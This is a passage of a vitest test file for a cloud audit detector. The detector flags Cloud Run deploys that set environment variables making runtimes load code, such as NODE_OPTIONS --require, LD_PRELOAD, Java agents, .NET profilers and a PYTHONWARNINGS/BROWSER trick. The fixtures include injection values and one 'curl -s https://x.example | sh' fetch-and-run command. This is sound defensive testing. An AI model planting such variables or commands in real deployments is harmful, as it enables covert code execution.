// code-loading-env: a revision that sets, or gives another value, a variable that makes its runtime load code
// (NODE_OPTIONS=--require, LD_PRELOAD...): code the image did not run before, with the same image.
import { describe, expect, it } from 'vitest';
import { codeLoadingEnvOf, loadsCode } from '../../../functions/audit/env.js';
import { at, consoleEnvSequence, deleteServiceAt, editV1Services, SLACK_BOT, synthetic, v1EnvDeploy, v1SidecarEnvDeploy, v2EnvUpdate, withOperationId, type EnvList, type Json } from '../../support/entries.js';
import { config, findingsLive, findingsOf } from '../../support/run.js';
import { MemoryBaselineStore } from '../../../functions/baseline/memory.js';
import { Pipeline } from '../../../functions/pipeline.js';

const v1Deploy = v1EnvDeploy;
const v2Update = v2EnvUpdate;

const REQUIRE = { name: 'NODE_OPTIONS', value: '--require /mnt/bucket/hook.js' };
const MEMORY = { name: 'NODE_OPTIONS', value: '--max-old-space-size=4096' };
const T0 = '2024-05-04T09:00:00Z';
const T1 = '2024-05-04T10:00:00Z';
const T2 = '2024-05-04T11:00:00Z';

async function codeFindings(entries: readonly unknown[], cfg = config()) {
  return (await findingsOf(entries, cfg)).filter((f) => f.rule === 'code-loading-env');
}

describe('code-loading-env', () => {
  it.each([
    ['NODE_OPTIONS --require set (v1)', [v1Deploy(T0, []), v1Deploy(T1, [REQUIRE])], ['NODE_OPTIONS'], ['NODE_OPTIONS=--require /mnt/bucket/hook.js'], undefined],
    ['NODE_OPTIONS --import of inline code', [v1Deploy(T0, []), v1Deploy(T1, [{ name: 'NODE_OPTIONS', value: '--import=data:text/javascript,process.exit()' }])], ['NODE_OPTIONS'], ['NODE_OPTIONS=--import=data:text/javascript,process.exit()'], undefined],
    ['memory flags turned into a --require', [v1Deploy(T0, [MEMORY]), v1Deploy(T1, [{ name: 'NODE_OPTIONS', value: '--max-old-space-size=4096 -r /tmp/x.js' }])], ['NODE_OPTIONS'], ['NODE_OPTIONS=--max-old-space-size=4096 -r /tmp/x.js'], ['NODE_OPTIONS']],
    ['NODE_OPTIONS memory flags turned into a quoted --require (node strips the quotes)', [v1Deploy(T0, [MEMORY]), v1Deploy(T1, [{ name: 'NODE_OPTIONS', value: '--max-old-space-size=4096 "--require" /mnt/bucket/hook.js' }])], ['NODE_OPTIONS'], ['NODE_OPTIONS=--max-old-space-size=4096 "--require" /mnt/bucket/hook.js'], ['NODE_OPTIONS']],
    ['OPENSSL_CONF set (its modules load as shared libraries)', [v1Deploy(T0, []), v1Deploy(T1, [{ name: 'OPENSSL_CONF', value: '/mnt/bucket/openssl.cnf' }])], ['OPENSSL_CONF'], ['OPENSSL_CONF=/mnt/bucket/openssl.cnf'], undefined],
    ['LD_PRELOAD set', [v1Deploy(T0, [{ name: 'PORT_NAME', value: 'http1' }]), v1Deploy(T1, [{ name: 'LD_PRELOAD', value: '/mnt/nfs/libhook.so' }])], ['LD_PRELOAD'], ['LD_PRELOAD=/mnt/nfs/libhook.so'], undefined],
    ['LD_PRELOAD given another library', [v1Deploy(T0, [{ name: 'LD_PRELOAD', value: '/usr/lib/libjemalloc.so' }]), v1Deploy(T1, [{ name: 'LD_PRELOAD', value: '/mnt/nfs/libhook.so' }])], ['LD_PRELOAD'], ['LD_PRELOAD=/mnt/nfs/libhook.so'], ['LD_PRELOAD']],
    // Python runs the `import` lines of the .pth files in the user site-packages under PYTHONUSERBASE (docs.python.org,
    // site; run with Python 3.11), like a module path.
    ['PYTHONUSERBASE set', [v1Deploy(T0, []), v1Deploy(T1, [{ name: 'PYTHONUSERBASE', value: '/mnt/bucket/py' }])], ['PYTHONUSERBASE'], ['PYTHONUSERBASE=/mnt/bucket/py'], undefined],
    // .NET loads the native profiler library CORECLR_PROFILER_PATH(_64) names into the process (learn.microsoft.com,
    // runtime-config/debugging-profiling: Profiler location; DOTNET_ prefixed from .NET 11).
    ['a .NET profiler library', [v1Deploy(T0, []), v1Deploy(T1, [{ name: 'CORECLR_ENABLE_PROFILING', value: '1' }, { name: 'CORECLR_PROFILER_PATH_64', value: '/mnt/nfs/profiler.so' }])], ['CORECLR_PROFILER_PATH_64'], ['CORECLR_PROFILER_PATH_64=/mnt/nfs/profiler.so'], undefined],
    ['a .NET profiler library (DOTNET_ prefix)', [v1Deploy(T0, []), v1Deploy(T1, [{ name: 'DOTNET_PROFILER_PATH', value: '/mnt/nfs/profiler.so' }])], ['DOTNET_PROFILER_PATH'], ['DOTNET_PROFILER_PATH=/mnt/nfs/profiler.so'], undefined],
    // Eclipse OpenJ9 (IBM Semeru) reads its options from IBM_JAVA_OPTIONS (IBM SDK docs, "Specifying Java options
    // and system properties") and OPENJ9_JAVA_OPTIONS, which the Semeru images set; -Xoptionsfile= reads them from a file.
    ['an OpenJ9 Java agent', [v1Deploy(T0, []), v1Deploy(T1, [{ name: 'OPENJ9_JAVA_OPTIONS', value: '-XX:+IdleTuningGcOnIdle -javaagent:/mnt/gcs/agent.jar' }])], ['OPENJ9_JAVA_OPTIONS'], ['OPENJ9_JAVA_OPTIONS=-XX:+IdleTuningGcOnIdle -javaagent:/mnt/gcs/agent.jar'], undefined],
    ['a Java agent', [v1Deploy(T0, []), v1Deploy(T1, [{ name: 'JAVA_TOOL_OPTIONS', value: '-XX:MaxRAMPercentage=75 -javaagent:/mnt/gcs/agent.jar' }])], ['JAVA_TOOL_OPTIONS'], ['JAVA_TOOL_OPTIONS=-XX:MaxRAMPercentage=75 -javaagent:/mnt/gcs/agent.jar'], undefined],
    // JAVA_OPTS and CATALINA_OPTS are no JVM's, but the start scripts of most Java images pass them to it
    // (Tomcat's catalina.sh, WildFly's standalone.sh, `java $JAVA_OPTS -jar app.jar` entrypoints).
    ['a Java agent in JAVA_OPTS', [v1Deploy(T0, []), v1Deploy(T1, [{ name: 'JAVA_OPTS', value: '-Xmx512m -javaagent:/mnt/gcs/agent.jar' }])], ['JAVA_OPTS'], ['JAVA_OPTS=-Xmx512m -javaagent:/mnt/gcs/agent.jar'], undefined],
    ['a Java agent in CATALINA_OPTS', [v1Deploy(T0, []), v1Deploy(T1, [{ name: 'CATALINA_OPTS', value: '-javaagent:/mnt/gcs/agent.jar' }])], ['CATALINA_OPTS'], ['CATALINA_OPTS=-javaagent:/mnt/gcs/agent.jar'], undefined],
    // Python imports the module of a warning category with a dot in it (warnings._getcategory; run with Python 3.11:
    // `PYTHONWARNINGS=ignore::hookmod.W` ran hookmod at start-up). Only antigravity's import runs code the environment
    // names: it opens a web browser, which runs the BROWSER variable's command (`all:0:antigravity.x:0:0` with
    // `BROWSER='sh -c ...'`); any other module imported so is code the image holds.
    ['a warning filter that imports antigravity (PYTHONWARNINGS, with BROWSER)', [v1Deploy(T0, []), v1Deploy(T1, [{ name: 'PYTHONWARNINGS', value: 'all:0:antigravity.x:0:0' }, { name: 'BROWSER', value: 'sh -c "curl -s https://x.example | sh" #%s' }])], ['PYTHONWARNINGS'], ['PYTHONWARNINGS=all:0:antigravity.x:0:0'], undefined],
    ['a value from Secret Manager (unreadable here)', [v1Deploy(T0, []), v1Deploy(T1, [{ name: 'NODE_OPTIONS', valueFrom: { secretKeyRef: { name: 'node-opts', key: 'latest' } } }])], ['NODE_OPTIONS'], ['NODE_OPTIONS=[Secret Manager: node-opts:latest]'], undefined],
    ['another Secret Manager secret', [v1Deploy(T0, [{ name: 'BASH_ENV', valueFrom: { secretKeyRef: { name: 'a', key: '1' } } }]), v1Deploy(T1, [{ name: 'BASH_ENV', valueFrom: { secretKeyRef: { name: 'b', key: '1' } } }])], ['BASH_ENV'], ['BASH_ENV=[Secret Manager: b:1]'], ['BASH_ENV']],
  ])('fires MEDIUM: %s', async (_name, entries, variables, values, changed) => {
    const findings = await codeFindings(entries);
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({ severity: 'MEDIUM', evidence: { variables, values, binaryAuthorizationEnforced: false } });
    expect(findings[0]!.evidence['changed']).toEqual(changed);
    // The title says what happened: a variable newly set, or one given another value.
    expect(findings[0]!.title).toBe(changed === undefined ? 'Environment variable that loads code set' : 'Environment variable that loads code changed');
  });

  // A console deploy logs its write without containers; the revision's system events carry the revision whole, its
  // variables included: those are compared.
  it.each([
    ['set', [v1Deploy('2024-05-06T20:00:00Z', []), ...consoleEnvSequence([{ name: 'LD_PRELOAD', value: '/mnt/nfs/libhook.so' }])], ['LD_PRELOAD=/mnt/nfs/libhook.so'], undefined],
    ['given another value', [v1Deploy('2024-05-06T20:00:00Z', [REQUIRE]), ...consoleEnvSequence([{ name: 'NODE_OPTIONS', value: '--require /mnt/bucket/other.js' }])], ['NODE_OPTIONS=--require /mnt/bucket/other.js'], ['NODE_OPTIONS']],
  ])('fires: a console deploy whose revision (system events) has a variable that loads code %s', async (_name, entries, values, changed) => {
    const findings = await codeFindings(entries);
    expect(findings.map((f) => [f.evidence['values'], f.evidence['changed'], f.revision])).toEqual([[values, changed, 'cloud-run-slack-bot-00023-kiv']]);
    // Live, the entries arriving seconds apart (the system events within the rollout's wait): the same finding.
    expect((await findingsLive(entries, config(), undefined, 5_000)).filter((f) => f.rule === 'code-loading-env').map((f) => f.id)).toEqual(findings.map((f) => f.id));
  });

  it.each([
    ['the same value as before', [v1Deploy('2024-05-06T20:00:00Z', [REQUIRE]), ...consoleEnvSequence([REQUIRE])]],
    ['memory flags only', [v1Deploy('2024-05-06T20:00:00Z', []), ...consoleEnvSequence([MEMORY])]],
    ['no variables at all', [v1Deploy('2024-05-06T20:00:00Z', [REQUIRE]), ...consoleEnvSequence([])]],
  ])('ignores: a console deploy whose revision (system events) has %s', async (_name, entries) => {
    expect(await codeFindings(entries)).toEqual([]);
  });

  it('a console deploy that drops the variable resolves the finding (its revision, as the system events show it)', async () => {
    const findings = await codeFindings([v1Deploy('2024-05-06T19:00:00Z', []), v1Deploy('2024-05-06T20:00:00Z', [REQUIRE]), ...consoleEnvSequence([])]);
    expect(findings.map((f) => f.status ?? 'active')).toEqual(['active', 'resolved']);
  });

  it('fires HIGH under an enforced Binary Authorization policy (v2, camelCase and snake_case references)', async () => {
    const findings = await codeFindings([
      synthetic('v2-CreateService'),
      v2Update('2024-06-01T11:00:00Z', [{ name: 'DOTNET_STARTUP_HOOKS', valueSource: { secretKeyRef: { secret: 'hooks', version: '3' } } }]),
      v2Update('2024-06-01T12:00:00Z', [{ name: 'DOTNET_STARTUP_HOOKS', value_source: { secret_key_ref: { secret: 'hooks', version: '4' } } }]),
    ]);
    expect(findings.map((f) => [f.status ?? 'active', f.severity, f.evidence['values'], f.evidence['binaryAuthorizationEnforced']])).toEqual([
      ['active', 'HIGH', ['DOTNET_STARTUP_HOOKS=[Secret Manager: hooks:3]'], true],
      ['resolved', 'HIGH', ['DOTNET_STARTUP_HOOKS=[Secret Manager: hooks:3]'], true],
      ['active', 'HIGH', ['DOTNET_STARTUP_HOOKS=[Secret Manager: hooks:4]'], true],
    ]);
    expect(findings[0]!.summary).toContain('past the Binary Authorization policy it enforces (default)');
  });

  it('fires: a service deleted and created again with the variable is compared with the deleted one', async () => {
    const findings = await codeFindings([v1Deploy(T0, []), deleteServiceAt(T1, SLACK_BOT), v1Deploy(T2, [REQUIRE])]);
    expect(findings.map((f) => f.evidence['variables'])).toEqual([['NODE_OPTIONS']]);
  });

  it('fires again: a service created again with the value whose finding its delete closed', async () => {
    const T3 = '2024-05-04T12:00:00Z';
    const findings = await codeFindings([v1Deploy(T0, []), v1Deploy(T1, [REQUIRE]), deleteServiceAt(T2, SLACK_BOT), v1Deploy(T3, [REQUIRE])]);
    expect(findings.map((f) => [f.status ?? 'active', f.resolution?.reason, f.evidence['recreatedAfterDeleteAt']])).toEqual([
      ['active', undefined, undefined],
      ['resolved', 'the service was deleted', undefined],
      ['active', undefined, '2024-05-04T11:00:00.000Z'],
    ]);
  });

  it.each([
    ['the first revision known sets the baseline', () => [v1Deploy(T1, [REQUIRE])]],
    ['memory flags only', () => [v1Deploy(T0, []), v1Deploy(T1, [MEMORY])]],
    ['memory flags changed', () => [v1Deploy(T0, [MEMORY]), v1Deploy(T1, [{ name: 'NODE_OPTIONS', value: '--max-old-space-size=8192' }])]],
    ['the same value deployed again with another image', () => [v1Deploy(T0, [REQUIRE]), v1Deploy(T1, [REQUIRE])]],
    ['the variable removed', () => [v1Deploy(T0, [REQUIRE]), v1Deploy(T1, [])]],
    ['a variable of another name', () => [v1Deploy(T0, []), v1Deploy(T1, [{ name: 'MY_NODE_OPTIONS', value: '--require /x.js' }])]],
    ['JAVA_OPTS and CATALINA_OPTS with memory flags only', () => [v1Deploy(T0, []), v1Deploy(T1, [{ name: 'JAVA_OPTS', value: '-Xmx512m -Dfile.encoding=UTF-8' }, { name: 'CATALINA_OPTS', value: '-XX:MaxRAMPercentage=75' }])]],
    ['warning filters of built-in categories only', () => [v1Deploy(T0, []), v1Deploy(T1, [{ name: 'PYTHONWARNINGS', value: 'ignore::DeprecationWarning,default::ResourceWarning:mymod' }])]],
    ['a warning filter naming a library\'s category (a module the image holds)', () => [v1Deploy(T0, []), v1Deploy(T1, [{ name: 'PYTHONWARNINGS', value: 'ignore::urllib3.exceptions.InsecureRequestWarning' }])]],
    ['an entry without containers in between says nothing', () => [v1Deploy(T0, [REQUIRE]), v1Deploy(T1, undefined), v1Deploy(T2, [REQUIRE])]],
    ['a v2 update whose mask leaves the containers alone', () => [synthetic('v2-CreateService'), v2Update('2024-06-01T11:00:00Z', [REQUIRE], ['template.service_account'])]],
    // An EnvVar's value defaults to "" (Admin API v1 and v2): a variable set empty is logged with no `value`, and loads nothing.
    ['a variable set empty, logged without a value (v1)', () => [v1Deploy(T0, []), v1Deploy(T1, [{ name: 'LD_PRELOAD' }, { name: 'NODE_OPTIONS' }])]],
    ['a variable set empty, logged without a value (v2)', () => [v2Update('2024-06-01T11:00:00Z', [{ name: 'PATH', value: '/usr/bin' }]), v2Update('2024-06-01T12:00:00Z', [{ name: 'PATH', value: '/usr/bin' }, { name: 'LD_PRELOAD' }])]],
  ])('ignores: %s', async (_name, entries) => {
    expect(await codeFindings(entries())).toEqual([]);
  });

  // Clients name a service's one container differently (gcloud writes `placeholder-1`, others none, the console its
  // own): the same agent, unchanged, must not read as newly set when another client deploys. With sidecars the
  // container tells the variables apart.
  it('ignores: the one container renamed or left unnamed by another client, its value unchanged', async () => {
    const agent = [{ name: 'JAVA_TOOL_OPTIONS', value: '-javaagent:/opt/dd-java-agent.jar' }];
    const unnamed = (time: string) =>
      at(withOperationId(editV1Services(synthetic('v1-ReplaceService-gcloud'), (svc) => {
        const template = (svc['spec'] as Record<string, Record<string, Record<string, unknown>>>)['template']!;
        template['spec']!['containers'] = [{ image: `gcr.io/acme/app:${time}`, env: agent }];
      }), `op-${time}`), time);
    expect(await codeFindings([v1Deploy(T0, agent), unnamed(T1), v1Deploy(T2, agent)])).toEqual([]);
  });

  it('ignores: an exception by service, or the rule disabled', async () => {
    const entries = [v1Deploy(T0, []), v1Deploy(T1, [REQUIRE])];
    expect(await codeFindings(entries, config({ rules: { 'code-loading-env': { exceptions: [{ service: 'test-project-1234/*' }] } } }))).toEqual([]);
    expect(await codeFindings(entries, config({ rules: { 'code-loading-env': { enabled: false } } }))).toEqual([]);
  });

  // Cloud Run runs up to 10 containers; sidecars listed before the app, each setting the six option variables to
  // values that load nothing, are 18 variables read before the app's own.
  const PADDING = ['NODE_OPTIONS', 'JAVA_TOOL_OPTIONS', '_JAVA_OPTIONS', 'JDK_JAVA_OPTIONS', 'PERL5OPT', 'RUBYOPT'].map((name) => ({ name, value: '-w' }));
  /** The gcloud fixture at `time` with three padding sidecars before the app container, whose env is `env`. */
  function padded(time: string, env: EnvList): Json {
    const entry = editV1Services(synthetic('v1-ReplaceService-gcloud'), (svc) => {
      const template = (svc['spec'] as Record<string, Record<string, Record<string, unknown>>>)['template']!;
      template['spec']!['containers'] = [
        ...['s1', 's2', 's3'].map((name) => ({ name, image: 'gcr.io/acme/sidecar:1', env: PADDING })),
        { name: 'app', image: `gcr.io/acme/app:${time}`, ports: [{ containerPort: 8080 }], env },
      ];
    });
    return at(withOperationId(entry, `op-${time}`), time);
  }

  it.each([
    ['set behind padding', [v1Deploy(T0, []), padded(T1, [{ name: 'LD_PRELOAD', value: '/mnt/nfs/libhook.so' }])], ['active']],
    ['still set, now behind padding: stays open', [v1Deploy(T0, []), v1Deploy(T1, [{ name: 'LD_PRELOAD', value: '/mnt/nfs/libhook.so' }]), padded(T2, [{ name: 'LD_PRELOAD', value: '/mnt/nfs/libhook.so' }])], ['active']],
    ['changed behind padding', [padded(T0, [{ name: 'LD_PRELOAD', value: '/usr/lib/libjemalloc.so' }]), padded(T1, [{ name: 'LD_PRELOAD', value: '/mnt/nfs/libhook.so' }])], ['active']],
  ])('more than 16 such variables cannot hide one that loads code: %s', async (_name, entries, statuses) => {
    const findings = await codeFindings(entries);
    expect(findings.map((f) => f.status ?? 'active')).toEqual(statuses);
    expect(findings.every((f) => JSON.stringify(f.evidence['values']).includes('LD_PRELOAD'))).toBe(true);
  });

  // A variable is keyed by its container only where more than one container of the revision sets its name: a sidecar
  // added (or taken away) that sets the name too leaves the app's variable as it was, not newly set or gone.
  const withSidecar = v1SidecarEnvDeploy;
  const OTHER = { name: 'NODE_OPTIONS', value: '--require /mnt/bucket/other.js' };

  it.each([
    ['a sidecar added that sets the name to memory flags', () => [v1Deploy(T0, [REQUIRE]), withSidecar(T1, [REQUIRE], [MEMORY])]],
    ['the sidecar taken away again', () => [withSidecar(T0, [REQUIRE], [MEMORY]), v1Deploy(T1, [REQUIRE])]],
  ])('ignores: the app\'s variable unchanged, %s', async (_name, entries) => {
    expect(await codeFindings(entries())).toEqual([]);
  });

  it.each([
    ['set in a sidecar added beside the app\'s', [v1Deploy(T0, [REQUIRE]), withSidecar(T1, [REQUIRE], [OTHER])], ['otel/NODE_OPTIONS'], undefined],
    // The sidecar's process loads that code too: a variable the revision before did not set.
    ['set in a sidecar added beside the app\'s, to the app\'s value', [v1Deploy(T0, [REQUIRE]), withSidecar(T1, [REQUIRE], [REQUIRE])], ['otel/NODE_OPTIONS'], undefined],
    ['changed in the app as the sidecar is taken away', [withSidecar(T0, [REQUIRE], [MEMORY]), v1Deploy(T1, [OTHER])], ['NODE_OPTIONS'], ['NODE_OPTIONS']],
  ])('fires for that variable alone: %s', async (_name, entries, variables, changed) => {
    const findings = await codeFindings(entries);
    expect(findings.map((f) => [f.evidence['variables'], f.evidence['changed']])).toEqual([[variables, changed]]);
  });

  it('stays open, and raises nothing new, when a sidecar setting the name is added beside the variable reported', async () => {
    const findings = await codeFindings([v1Deploy(T0, []), v1Deploy(T1, [REQUIRE]), withSidecar(T2, [REQUIRE], [MEMORY])]);
    expect(findings.map((f) => `${f.eventTime} ${f.status ?? 'active'}`)).toEqual([`${T1} active`]);
  });

  it('the same change seen twice gives one finding id', async () => {
    const second = v1Deploy(T1, [REQUIRE]);
    const findings = await codeFindings([v1Deploy(T0, []), second, structuredClone(second)]);
    expect(new Set(findings.map((f) => f.id)).size).toBe(1);
  });

  // A revision deployed with --no-traffic takes none of the traffic: the revision with the variable keeps serving,
  // loading that code. Only a revision that serves ends that.
  it('is not resolved by a revision without the variable that takes no traffic (gcloud run deploy --no-traffic)', async () => {
    const noTraffic = editV1Services(v1Deploy(T2, []), (svc) => void ((svc['spec'] as Json)['traffic'] = [{ revisionName: 'hello-00002-abc', percent: 100 }]));
    expect((await codeFindings([v1Deploy(T0, []), v1Deploy(T1, [REQUIRE]), noTraffic])).map((f) => f.status ?? 'active')).toEqual(['active']);
  });

  it('is resolved when a newer revision drops the variable or changes it (reported on its own), or the service is deleted', async () => {
    const open = [v1Deploy(T0, []), v1Deploy(T1, [REQUIRE])];
    const dropped = await codeFindings([...open, v1Deploy(T2, [])]);
    expect(dropped.map((f) => f.status ?? 'active')).toEqual(['active', 'resolved']);
    expect(dropped[1]!.resolution?.reason).toBe('the variables no longer have the values reported');
    const changed = await codeFindings([...open, v1Deploy(T2, [{ name: 'NODE_OPTIONS', value: '--require /mnt/bucket/other.js' }])]);
    expect(changed.map((f) => `${f.status ?? 'active'} ${String(f.evidence['values'])}`)).toEqual([
      'active NODE_OPTIONS=--require /mnt/bucket/hook.js',
      'resolved NODE_OPTIONS=--require /mnt/bucket/hook.js',
      'active NODE_OPTIONS=--require /mnt/bucket/other.js',
    ]);
    const deleted = await codeFindings([...open, deleteServiceAt(T2, SLACK_BOT)]);
    expect(deleted.map((f) => f.resolution?.reason)).toEqual([undefined, 'the service was deleted']);
    // A revision that still has it closes nothing.
    expect((await codeFindings([...open, v1Deploy(T2, [REQUIRE])])).map((f) => f.status ?? 'active')).toEqual(['active']);
  });

  it('a late revision whose variable a newer one already dropped: reported and closed at once, as in order', async () => {
    const base = v1Deploy(T0, []);
    const open = v1Deploy(T1, [REQUIRE]);
    const dropped = v1Deploy(T2, []);
    const only = async (entries: unknown[]) => (await findingsLive(entries)).filter((f) => f.rule === 'code-loading-env').map((f) => `${f.id} ${f.status ?? 'active'}`);
    expect(await only([base, dropped, open])).toEqual(await only([base, open, dropped]));
    expect(await only([base, dropped, open])).toHaveLength(2);
  });

  it('a late revision is not closed by a newer one without the variable that takes no traffic, as in order', async () => {
    const base = v1Deploy(T0, []);
    const open = v1Deploy(T1, [REQUIRE]);
    const noTraffic = editV1Services(v1Deploy(T2, []), (svc) => void ((svc['spec'] as Json)['traffic'] = [{ revisionName: 'hello-00002-abc', percent: 100 }]));
    const only = async (entries: unknown[]) => (await findingsLive(entries)).filter((f) => f.rule === 'code-loading-env').map((f) => `${f.id} ${f.status ?? 'active'}`);
    const inOrder = await only([base, open, noTraffic]);
    expect(inOrder.map((f) => f.split(' ')[1])).toEqual(['active']);
    expect(await only([base, noTraffic, open])).toEqual(inOrder);
  });

  // Values are shown cut to 200 characters: padding must not push the option that loads code out of sight (the
  // reader would see memory flags only), and a cut value says it is cut.
  const LONG = 'A'.repeat(300);
  it.each([
    ['padded with spaces', `--max-old-space-size=4096${' '.repeat(300)}--require /mnt/bucket/hook.js`, '…--require /mnt/bucket/hook.js'],
    ['padded with another option', `--title=${LONG} "--import=/mnt/bucket/hook.mjs"`, '…"--import=/mnt/bucket/hook.mjs"'],
    ['a long library path', `/usr/lib/${LONG}.so`, `/usr/lib/${LONG.slice(0, 190)}…`],
  ])('shows the part that loads code of a long value: %s', async (_name, value, shown) => {
    const name = value.startsWith('/') ? 'LD_PRELOAD' : 'NODE_OPTIONS';
    const findings = await codeFindings([v1Deploy(T0, []), v1Deploy(T1, [{ name, value }])]);
    expect(findings.map((f) => f.evidence['values'])).toEqual([[`${name}=${shown}`]]);
  });

  it.each([
    ['plaintext-secret-env on', config()],
    // The values go to every sink whichever rules are on (as job-run-overrides' arguments).
    ['plaintext-secret-env off', config({ rules: { 'plaintext-secret-env': { enabled: false } } })],
  ])('hides a secret by its name in a value (%s)', async (_name, cfg) => {
    const password = 'hunter2-' + 'Runwatch7';
    const entries = [v1Deploy(T0, []), v1Deploy(T1, [{ name: 'JAVA_TOOL_OPTIONS', value: `-javaagent:/mnt/gcs/agent.jar -Ddb.password=${password}` }])];
    const findings = await codeFindings(entries, cfg);
    expect(findings.map((f) => f.evidence['values'])).toEqual([['JAVA_TOOL_OPTIONS=-javaagent:/mnt/gcs/agent.jar -Ddb.password=[hidden]']]);
    expect(JSON.stringify(findings)).not.toContain(password);
  });

  // An option variable's value is a line of options: a secret's assignment first in it is one option, not all the
  // value, which hid the agent after it (`-Ddb.password=[hidden]`, a value that seemed to load nothing).
  it('hides a secret by its name first in a value, and shows the option that loads code after it', async () => {
    const password = 'hunter2-' + 'Runwatch7';
    const findings = await codeFindings([v1Deploy(T0, []), v1Deploy(T1, [{ name: 'JAVA_TOOL_OPTIONS', value: `-Ddb.password=${password} -javaagent:/mnt/gcs/agent.jar` }])]);
    expect(findings.map((f) => f.evidence['values'])).toEqual([['JAVA_TOOL_OPTIONS=-Ddb.password=[hidden] -javaagent:/mnt/gcs/agent.jar']]);
    expect(JSON.stringify(findings)).not.toContain(password);
  });

  // Node splits NODE_OPTIONS at spaces and the JVM its option variables at ASCII white space only: a no-break space,
  // an ideographic space or a line separator inside a password is part of the option, so all of it is hidden.
  it.each([
    ['a no-break space', 'JAVA_TOOL_OPTIONS', '-Ddb.password=Runwatch7\u00a0tail-of-it -javaagent:/mnt/gcs/agent.jar', '-Ddb.password=[hidden] -javaagent:/mnt/gcs/agent.jar'],
    ['an ideographic space', 'NODE_OPTIONS', '--require /x.js --db-password=Runwatch7\u3000tail-of-it', '--require /x.js --db-password=[hidden]'],
    ['a line separator', 'NODE_OPTIONS', '--db-password=Runwatch7\u2028tail-of-it --require /x.js', '--db-password=[hidden] --require /x.js'],
    // Node splits at the space character alone: a tab or a line break stays inside the option (the JVM splits there).
    ['a tab, in NODE_OPTIONS', 'NODE_OPTIONS', '--require /x.js --db-password=Runwatch7\ttail-of-it', '--require /x.js --db-password=[hidden]'],
    ['a line break, in NODE_OPTIONS', 'NODE_OPTIONS', '--db-password=Runwatch7\ntail-of-it --require /x.js', '--db-password=[hidden] --require /x.js'],
  ])('hides all of a secret holding white space the runtime does not split options at (%s)', async (_name, name, value, shown) => {
    const findings = await codeFindings([v1Deploy(T0, []), v1Deploy(T1, [{ name, value }])]);
    expect(findings.map((f) => f.evidence['values'])).toEqual([[`${name}=${shown}`]]);
    expect(JSON.stringify(findings)).not.toContain('tail-of-it');
  });

  it('shows the option after a tab that ends a secret in a Java option variable (the JVM splits at ASCII white space)', async () => {
    const findings = await codeFindings([v1Deploy(T0, []), v1Deploy(T1, [{ name: 'JAVA_TOOL_OPTIONS', value: '-Ddb.password=Runwatch7\t-javaagent:/mnt/gcs/agent.jar' }])]);
    expect(findings.map((f) => f.evidence['values'])).toEqual([['JAVA_TOOL_OPTIONS=-Ddb.password=[hidden]\t-javaagent:/mnt/gcs/agent.jar']]);
  });

  // The OpenTelemetry Java agent takes its exporter's headers as a system property beside -javaagent: the credential
  // in them has no secret's name (`Authorization=Bearer ...`), and is hidden by its form.
  it('hides a bearer credential in an agent\'s header property (-Dotel.exporter.otlp.headers=Authorization=Bearer ...)', async () => {
    const jwt = 'eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c';
    const value = `-javaagent:/otel/opentelemetry-javaagent.jar -Dotel.exporter.otlp.headers=Authorization=Bearer%20${jwt}`;
    const findings = await codeFindings([v1Deploy(T0, []), v1Deploy(T1, [{ name: 'JAVA_TOOL_OPTIONS', value }])]);
    expect(findings.map((f) => f.evidence['values'])).toEqual([['JAVA_TOOL_OPTIONS=-javaagent:/otel/opentelemetry-javaagent.jar -Dotel.exporter.otlp.headers=Authorization=Bearer%20[hidden: an authorization header]']]);
    expect(JSON.stringify(findings)).not.toContain('SflKxwRJ');
  });

  // A property that ends in `authorization=` is no header: the JVM ends its value at the space, so the option after it
  // (the agent the finding is about) is another option and stays shown; only a header written in one option, its scheme
  // and credentials joined by %20 or +, has credentials to hide there.
  it.each([
    ['a setting', '-Dkeycloak.authorization=true -javaagent:/mnt/gcs/agent.jar'],
    ['a scheme name as a setting', '-Dapp.authorization=basic -javaagent:/mnt/gcs/agent.jar'],
  ])('shows the agent after a property ending in authorization= (%s)', async (_name, value) => {
    const findings = await codeFindings([v1Deploy(T0, []), v1Deploy(T1, [{ name: 'JAVA_TOOL_OPTIONS', value }])]);
    expect(findings.map((f) => f.evidence['values'])).toEqual([[`JAVA_TOOL_OPTIONS=${value}`]]);
  });

  // Node and the JVM drop the quotes around an option: `"--db-password=a b c"` is one option, its value all of `a b c`.
  it('hides the whole value of a secret\'s assignment quoted as one option, white space and all', async () => {
    const findings = await codeFindings([v1Deploy(T0, []), v1Deploy(T1, [{ name: 'NODE_OPTIONS', value: `--require /x.js "--db-password=correct horse battery" --trace-warnings` }])]);
    expect(findings.map((f) => f.evidence['values'])).toEqual([['NODE_OPTIONS=--require /x.js "--db-password=[hidden]" --trace-warnings']]);
  });

  // A quoted piece and the text right after it are one word (`"a"b` is `ab` to node, the JVM and a shell).
  it('hides the whole value of a secret\'s assignment whose quoted start is followed by more of it', async () => {
    const findings = await codeFindings([v1Deploy(T0, []), v1Deploy(T1, [{ name: 'JAVA_TOOL_OPTIONS', value: `-Ddb.password="x"Runwatch7secret -javaagent:/mnt/gcs/agent.jar` }])]);
    expect(findings.map((f) => f.evidence['values'])).toEqual([['JAVA_TOOL_OPTIONS=-Ddb.password=[hidden] -javaagent:/mnt/gcs/agent.jar']]);
  });

  // Options spell names with `-` or `.` where variables have `_`: `--api-key` is API_KEY, `-Daws.access.key` ACCESS_KEY.
  it('hides a secret by its name spelled with - or . for _ (--api-key=, -Daws.access.key=)', async () => {
    const findings = await codeFindings([v1Deploy(T0, []), v1Deploy(T1, [{ name: 'NODE_OPTIONS', value: '--require /x.js --api-key=Runwatch7apikey' }, { name: 'JAVA_TOOL_OPTIONS', value: '-Daws.access.key=Runwatch7access -javaagent:/a.jar' }])]);
    expect(findings.map((f) => f.evidence['values'])).toEqual([['NODE_OPTIONS=--require /x.js --api-key=[hidden]', 'JAVA_TOOL_OPTIONS=-Daws.access.key=[hidden] -javaagent:/a.jar']]);
  });

  // Past 16 variables the rest are kept as one, `(more)`: when a variable named before goes, one of those moves into
  // its place, set with the same value as before. It was not set then: the revision only dropped a variable.
  it('ignores: a variable that was folded into (more) moves into the place of one dropped, its value unchanged', async () => {
